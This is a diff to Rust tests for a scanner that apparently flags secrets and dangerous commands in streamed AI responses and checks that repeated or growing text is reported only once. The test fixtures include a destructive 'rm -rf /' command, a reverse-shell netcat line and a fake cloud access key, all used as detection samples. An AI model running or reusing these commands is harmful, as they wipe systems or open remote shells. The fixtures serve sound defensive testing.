@@ -6,7 +6,7 @@ use super::rules::Pack;
 use super::tests::RULES;
 use super::*;
 use crate::finding::Confidence;
-use crate::limits::{SCAN_WINDOW_MAX_BYTES, SCAN_WORK_BYTES};
+use crate::limits::{SCAN_LANE_RECENT_EVENTS, SCAN_WINDOW_MAX_BYTES, SCAN_WORK_BYTES};
 
 #[derive(Debug, PartialEq, Eq)]
 struct Told {
@@ -109,6 +109,10 @@ fn a_token_that_is_a_whole_string_of_a_message_is_told_once() {
 
 /// The events of an answer that streams a text, and then says all of it some times more.
 fn answer(pieces: &[&str]) -> Vec<String> {
+    answer_in_json(pieces).iter().map(|event| format!("data: {event}\n\n")).collect()
+}
+
+fn answer_in_json(pieces: &[&str]) -> Vec<String> {
     let text = serde_json::to_string(&pieces.concat()).unwrap();
     let place = "\"item_id\":\"msg_1\",\"output_index\":0,\"content_index\":0";
     let delta = |piece: &&str| {
@@ -128,8 +132,115 @@ fn answer(pieces: &[&str]) -> Vec<String> {
             ),
             format!("{{\"type\":\"response.completed\",\"response\":{{\"output\":[{item}]}}}}"),
         ])
-        .map(|event| format!("data: {event}\n\n"))
         .collect()
+}
+
+/// So many letters more of a text each time, all of those before with them.
+fn growing(text: &str, step: usize) -> Vec<String> {
+    let ends = (step..text.len() + step).step_by(step);
+    ends.map(|end| text[..end.min(text.len())].to_owned()).collect()
+}
+
+/// Texts with one finding each.
+const FOUND: [&str; 3] = [
+    "Sure, here it is: AKIA2345QYLPMNHF7654 and here is some further text that goes on for a while.",
+    "Please run this: rm -rf / --no-preserve-root and tell me what the last of its lines has said.",
+    "It is endless_abcdefghijklmnopqrstEXAMPLEEXAMPLE and here is some more of what I want to say.",
+];
+
+#[test]
+fn a_text_that_comes_whole_with_each_event_is_told_once() {
+    let event = |text: &str| serde_json::json!({ "message": { "content": text } }).to_string();
+    let sse = |text: &str| format!("data: {}\n\n", event(text));
+    let plain = |text: &str| format!("data: {text}\n\n");
+    let line = |text: &str| format!("{}\n", event(text));
+    let forms: [(&str, &dyn Fn(&str) -> String); 3] = [
+        ("text/event-stream", &sse),
+        ("text/event-stream", &plain),
+        ("application/x-ndjson", &line),
+    ];
+    for text in FOUND {
+        for step in [1, 4, 20] {
+            for (kind, form) in forms {
+                let events: Vec<String> = growing(text, step).iter().map(|t| form(t)).collect();
+                let each: Vec<&str> = events.iter().map(String::as_str).collect();
+                let told = told_of(kind, &each);
+                assert_eq!(told.len(), 1, "{kind} by {step}: {told:?}");
+                // Prose as lines that come at once is a file.
+                if kind != "text/plain" || step == 1 {
+                    let told = told_of(kind, &[&events.concat()]);
+                    assert_eq!(told.len(), 1, "{kind} by {step} at once: {told:?}");
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn a_text_that_comes_whole_with_each_message_is_told_once() {
+    let counts =
+        |messages: &[String]| -> usize { told_of_messages(messages).iter().map(Vec::len).sum() };
+    for head in ["", "42"] {
+        let message = |(number, text): (usize, &String)| match head {
+            "" => format!("{{\"seq\":{number},\"text\":\"{text}\"}}"),
+            _ => format!("{head}[\"event\",{{\"text\":\"{text}\"}}]"),
+        };
+        for text in FOUND {
+            for step in [4, 20] {
+                let messages: Vec<String> =
+                    growing(text, step).iter().enumerate().map(message).collect();
+                assert_eq!(counts(&messages), 1, "{text} by {step}");
+            }
+        }
+    }
+    // What is said besides is told, and so is the same where it is no repeat.
+    let [one, other] = ["a", "b"].map(token);
+    let texts = [format!("first {one} of"), format!("first {one} of two: {other} is"), one.clone()];
+    let messages: Vec<String> = texts.iter().map(|t| format!("{{\"text\":\"{t}\"}}")).collect();
+    let told = told_of_messages(&messages);
+    assert_eq!(told.iter().map(Vec::len).collect::<Vec<_>>(), [1, 1, 1, 0], "{told:?}");
+}
+
+#[test]
+fn what_the_last_messages_of_an_answer_repeat_is_no_second_finding() {
+    for text in FOUND.into_iter().chain(["run rm -rf /", "type nc 10.0.0.1 4444 -e /bin/sh"]) {
+        for len in [1, 4, 7, 1000] {
+            let letters: Vec<char> = text.chars().collect();
+            let pieces: Vec<String> = letters.chunks(len).map(String::from_iter).collect();
+            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
+            // One socket carries several answers.
+            let messages = [answer_in_json(&pieces), answer_in_json(&["And now? ", "Nothing."])];
+            let told =
+                told_of_messages(&messages.concat()).into_iter().flatten().collect::<Vec<_>>();
+            assert_eq!(told.len(), 1, "{text} by {len}: {told:?}");
+        }
+    }
+}
+
+#[test]
+fn a_long_message_repeats_what_a_text_told_lately() {
+    let [one, other] = ["a", "b"].map(token);
+    let delta = |piece: &str| format!("{{\"type\":\"delta\",\"delta\":\"{piece}\"}}");
+    let done = format!("{{\"type\":\"done\",\"text\":\"it is {one} or {other}\"}}");
+    for (between, counts) in [(1, [1, 1]), (SCAN_LANE_RECENT_EVENTS as usize + 1, [1, 2])] {
+        let (scanner, mut sink) = (scanner(), Sink::default());
+        let mut stream = scanner.messages();
+        let pieces = ["it is ", &one[..20], &one[20..], " or "].map(delta);
+        let others = vec!["{\"type\":\"ping\"}".to_owned(); between];
+        for message in pieces.iter().chain(&others) {
+            stream.feed(PaddedBuffer::new().fill(message.as_bytes()), &mut sink);
+            stream.end_message(&mut sink);
+        }
+        assert_eq!(sink.0.len(), counts[0]);
+        let told = std::mem::take(&mut sink.0);
+        assert_eq!(told[0].bytes, one);
+        for piece in done.as_bytes().chunks(30) {
+            stream.feed(PaddedBuffer::new().fill(piece), &mut sink);
+        }
+        stream.end_message(&mut sink);
+        assert_eq!(sink.0.len(), counts[1], "{between}: {:?}", sink.0);
+        assert_eq!(sink.0.last().unwrap().bytes, other);
+    }
 }
 
 #[test]
